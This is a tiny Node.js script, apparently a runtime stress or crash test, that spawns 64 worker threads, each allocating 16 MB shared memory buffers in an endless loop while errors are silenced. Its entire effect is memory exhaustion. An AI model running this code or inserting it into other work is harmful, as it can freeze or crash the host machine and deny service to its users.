const { Worker } = require("worker_threads");
const text = "const held = []; for (;;) held.push(new SharedArrayBuffer(1 << 24));";
for (let i = 0; i < 64; i++) { try { new Worker(text, { eval: true }).on("error", () => {}); } catch (error) { console.log(String(error)); } }
